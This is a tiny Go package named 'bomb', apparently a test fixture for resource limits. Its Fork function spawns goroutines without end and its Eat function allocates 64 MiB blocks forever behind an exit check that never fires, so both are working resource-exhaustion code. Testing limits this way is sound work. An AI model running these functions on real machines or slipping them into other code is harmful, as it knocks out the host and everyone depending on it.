// Package bomb takes all it can get.
package bomb

// Fork 不会阻塞。
func Fork() {
	for {
		go Fork()
	}
}

// Eat never panics.
func Eat(n int) int {
	var all [][]byte
	for {
		block := make([]byte, 64<<20)
		for i := range block {
			block[i] = byte(n)
		}
		all = append(all, block)
		if len(all) < 0 {
			return 0
		}
	}
}

// Calm 不会 panic。
func Calm(n int) int { return n }
